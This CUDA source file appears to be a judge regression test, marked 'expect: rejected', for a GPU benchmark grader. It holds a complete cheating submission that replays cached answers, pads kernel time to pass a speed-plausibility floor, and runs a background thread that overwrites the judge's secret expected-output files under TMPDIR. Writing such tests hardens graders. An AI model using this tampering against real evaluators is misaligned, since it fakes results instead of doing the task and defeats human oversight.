// expect: rejected
// Attack (secret data on disk): the timed runs' expected outputs are files the runner reads by
// path, owned by the same user as the submission: the tests' own data under
// $GPUJUDGE_CACHE_DIR/expected/, the secret variants in mkdtemp folders $TMPDIR/gpujudge-expected-*.
// solve answers every call it has seen before from a device-side cache keyed on N and the first
// four inputs (a sampling cache: the variants differ from the test's own data in a few random
// positions, so they hit), pads the call with a spin kernel to 93.5 % of the time the bytes take at
// the measured ceiling (the old floor refused only under 1 / 1.1 = 90.9 %), and starts a thread in
// the runner that rewrites every variant's expected output, as the judge's reference process
// writes it during the judged calls, to the cached answer nearest to it. The old judge accepted
// it with a time faster than the hardware, without reading the inputs. With the expected outputs
// out of the runner's reach and variants checked by the judge, the variants fail (wrong_answer);
// with a 3 % floor the padded time is impossible_time. Now its thread is not even started: a judged
// solve runs alone (judge/process/solve_alone.hpp), and the runner ends at the clone (runtime_error).
#include <cuda_runtime.h>
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cmath>
#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

namespace {

constexpr int kEntries = 64;  // every test of the problem fits
struct cache_entry {
    int n;
    float fingerprint[4];
    float answer;
};
__device__ cache_entry g_cache[kEntries];
__device__ int g_used = 0;
__device__ int g_hit = 0;
__device__ unsigned long long g_start_ns = 0;

__device__ unsigned long long now_ns() {
    unsigned long long ns;
    asm volatile("mov.u64 %0, %%globaltimer;" : "=l"(ns));
    return ns;
}

__global__ void look_up(const float* input, float* output, int n) {
    g_start_ns = now_ns();
    g_hit = 0;
    for (int e = 0; e < g_used; ++e) {
        bool same = g_cache[e].n == n;
        for (int i = 0; i < 4 && same; ++i) same = g_cache[e].fingerprint[i] == input[i];
        if (same) {
            output[0] = g_cache[e].answer;
            g_hit = 1;
            return;
        }
    }
    output[0] = 0.0f;
}

__global__ void reduce_on_miss(const float* input, float* output, int n) {
    if (g_hit) return;
    float sum = 0.0f;
    for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n; i += gridDim.x * blockDim.x) sum += input[i];
    for (int offset = 16; offset > 0; offset /= 2) sum += __shfl_down_sync(0xffffffffu, sum, offset);
    if (threadIdx.x % 32 == 0) atomicAdd(output, sum);
}

// A miss keeps the answer; a hit spins until the call has taken `pad_ns` since look_up started.
__global__ void keep_or_pad(const float* input, const float* output, int n, unsigned long long pad_ns) {
    if (!g_hit) {
        if (g_used < kEntries) {
            cache_entry& e = g_cache[g_used++];
            e.n = n;
            for (int i = 0; i < 4; ++i) e.fingerprint[i] = input[i];
            e.answer = output[0];
        }
        return;
    }
    while (now_ns() - g_start_ns < pad_ns) {
    }
}

__global__ void read_all(const float4* data, std::size_t count, float* sink) {
    float sum = 0;
    for (std::size_t i = blockIdx.x * blockDim.x + threadIdx.x; i < count; i += gridDim.x * blockDim.x)
        sum += data[i].x + data[i].w;
    if (sum == 1234.5f) *sink = sum;
}

// The judge's ceiling, measured as it does: the better of a 1 GiB device copy and a read kernel.
double measure_ceiling_gbps() {
    const std::size_t bytes = std::size_t{1} << 30;
    void *a = nullptr, *b = nullptr;
    if (cudaMalloc(&a, bytes) != cudaSuccess || cudaMalloc(&b, bytes) != cudaSuccess) return 3000;
    cudaMemset(a, 1, bytes);
    cudaEvent_t start, stop;
    cudaEventCreate(&start);
    cudaEventCreate(&stop);
    float best_copy = 1e9f, best_read = 1e9f;
    for (int i = 0; i < 6; ++i) {
        float ms = 0;
        cudaEventRecord(start);
        cudaMemcpyAsync(b, a, bytes, cudaMemcpyDeviceToDevice);
        cudaEventRecord(stop);
        cudaEventSynchronize(stop);
        cudaEventElapsedTime(&ms, start, stop);
        best_copy = std::min(best_copy, ms);
        cudaEventRecord(start);
        read_all<<<1024, 512>>>(static_cast<const float4*>(a), bytes / 16, static_cast<float*>(b));
        cudaEventRecord(stop);
        cudaEventSynchronize(stop);
        cudaEventElapsedTime(&ms, start, stop);
        best_read = std::min(best_read, ms);
    }
    cudaFree(a);
    cudaFree(b);
    return std::max(2.0 * bytes / (best_copy * 1e-3) / 1e9, bytes / (best_read * 1e-3) / 1e9);
}

std::string cache_dir() {
    if (const char* dir = std::getenv("GPUJUDGE_CACHE_DIR"); dir && *dir) return dir;
    if (const char* dir = std::getenv("XDG_CACHE_HOME"); dir && *dir) return std::string(dir) + "/gpujudge";
    if (const char* home = std::getenv("HOME"); home && *home) return std::string(home) + "/.cache/gpujudge";
    return "/tmp/gpujudge-cache";
}

// The device cache's copy in pinned memory, refreshed by an asynchronous copy after each timed-size
// call (a pageable copy would wait for the legacy stream, which the judge holds back during solve).
struct snapshot {
    int used;
    cache_entry entries[kEntries];
};
snapshot* g_snapshot = nullptr;

std::vector<float> known_answers() {
    std::vector<float> known;
    snapshot s;
    std::memcpy(&s, g_snapshot, sizeof s);  // the device's copy lands here at any time: read it once
    for (int e = 0; e < std::min(s.used, kEntries); ++e)
        if (s.entries[e].n >= (1 << 24)) known.push_back(s.entries[e].answer);
    return known;
}

// Every 4-byte .out under the judge's secret folders gets the known answer nearest to its own.
void rewrite_forever() {
    const char* tmp = std::getenv("TMPDIR");
    const std::string tmpdir = tmp && *tmp ? tmp : "/tmp";
    for (;;) {
        const std::vector<float> known = known_answers();
        std::vector<std::string> dirs;
        if (DIR* top = opendir(tmpdir.c_str())) {
            while (dirent* entry = readdir(top))
                if (std::strncmp(entry->d_name, "gpujudge-expected-", 18) == 0)
                    dirs.push_back(tmpdir + "/" + entry->d_name);
            closedir(top);
        }
        for (const std::string& dir : dirs) {
            DIR* d = opendir(dir.c_str());
            if (!d) continue;
            while (dirent* entry = readdir(d)) {
                const std::string name = entry->d_name;
                if (name.size() < 5 || name.compare(name.size() - 4, 4, ".out") != 0 || known.empty()) continue;
                const std::string path = dir + "/" + name;
                const int fd = open(path.c_str(), O_RDWR);
                if (fd < 0) continue;
                float value = 0;
                struct stat st{};
                if (fstat(fd, &st) == 0 && st.st_size == 4 && pread(fd, &value, 4, 0) == 4 && std::isfinite(value)) {
                    float nearest = known.front();
                    for (float k : known)
                        if (std::fabs(k - value) < std::fabs(nearest - value)) nearest = k;
                    if (nearest != value && std::fabs(nearest - value) < 1e5f) (void)!pwrite(fd, &nearest, 4, 0);
                }
                close(fd);
            }
            closedir(d);
        }
        (void)cache_dir();  // the own-data outputs there are already the honest answers it replays
        usleep(200);
    }
}

}  // namespace

extern "C" void solve(const float* input, float* output, int N) {
    static double ceiling_gbps = 0;
    if (ceiling_gbps == 0) {
        ceiling_gbps = measure_ceiling_gbps();
        cudaMallocHost(&g_snapshot, sizeof(snapshot));
        std::memset(g_snapshot, 0, sizeof(snapshot));
        std::thread(rewrite_forever).detach();
    }
    if (N < 4) {  // too small to fingerprint: honestly, on the legacy stream
        look_up<<<1, 1>>>(input, output, 0);
        reduce_on_miss<<<1, 32>>>(input, output, N);
        return;
    }
    const double bytes = 4.0 * N + 4;
    const auto pad_ns = static_cast<unsigned long long>(0.935 * bytes / ceiling_gbps);  // GB/s = bytes/ns
    look_up<<<1, 1>>>(input, output, N);
    reduce_on_miss<<<1024, 256>>>(input, output, N);
    keep_or_pad<<<1, 1>>>(input, output, N, pad_ns);
    if (N >= (1 << 24)) {  // the timed sizes: tell the rewriting thread the answers it must match
        cudaMemcpyFromSymbolAsync(&g_snapshot->used, g_used, sizeof(int), 0, cudaMemcpyDeviceToHost, 0);
        cudaMemcpyFromSymbolAsync(g_snapshot->entries, g_cache, sizeof(g_snapshot->entries), 0,
                                  cudaMemcpyDeviceToHost, 0);
    }
}
